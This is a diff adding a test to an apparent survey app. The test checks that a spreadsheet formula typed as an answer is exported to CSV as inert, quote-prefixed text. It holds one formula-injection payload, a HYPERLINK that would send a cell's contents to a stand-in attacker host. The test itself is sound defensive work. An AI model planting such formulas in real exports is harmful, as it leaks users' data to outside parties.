@@ -492,6 +492,20 @@ def test_download_my_answers_as_csv_in_the_current_language(client, survey):
     assert len(rows) == 1 + len(COMPLETE_ANSWERS)
 
 
+def test_a_formula_typed_as_an_answer_downloads_as_inert_text(client, survey):
+    start(client)
+    post(client, "about", ABOUT)
+    post(client, "tools", TOOLS)
+    formula = '=HYPERLINK("http://evil.example/?"&A1, "Click")'
+    post(client, "final", {**FINAL, "comments": formula}, action="submit")
+
+    answer = client.get("/surveys/sample/my-answers.csv")
+
+    rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))
+    by_code = {row[0]: row[1:] for row in rows[1:]}
+    assert by_code["comments"][1] == "'" + formula
+
+
 def test_answers_are_downloadable_only_from_the_session_that_holds_them(client, survey):
     walk_to_the_end(client)
 
